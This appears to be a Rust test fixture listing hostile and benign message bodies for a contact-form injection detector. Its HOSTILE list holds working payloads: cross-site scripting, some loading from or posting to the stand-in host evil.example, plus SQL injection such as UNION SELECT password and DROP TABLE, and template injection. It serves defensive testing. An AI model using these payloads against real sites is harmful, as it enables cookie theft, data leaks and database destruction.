// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Hostile and benign message bodies.

/// Injection attempts that must be flagged as suspicious.
pub const HOSTILE: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "Click javascript:alert(1) for a prize",
    "<img src=x onerror=alert(1)>",
    "hover me onmouseover = steal()",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(\"hi\")",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=evil.swf></object>",
    "<embed src=evil.swf>",
    "<form action=https://evil.example>",
    "please eval(atob('YWxlcnQoMSk='))",
    "width: expression(alert(1))",
    "background-image: url(https://evil.example/pixel)",
    "1' UNION SELECT password FROM users",
    "'; DROP TABLE messages; --",
    "admin'-- comment",
    "{{constructor.constructor('alert(1)')()}}",
    "price > value",
];

/// Ordinary messages that must pass untouched.
pub const BENIGN: &[&str] = &[
    "Hi! I saw your portfolio and would love to chat.",
    "Are you available for freelance work in March?",
    "Great projects. What stack did you use for the 3D background?",
    "Cheers from Zürich, looking forward to hearing from you.",
    "Quick question: do you do mentoring sessions?",
];
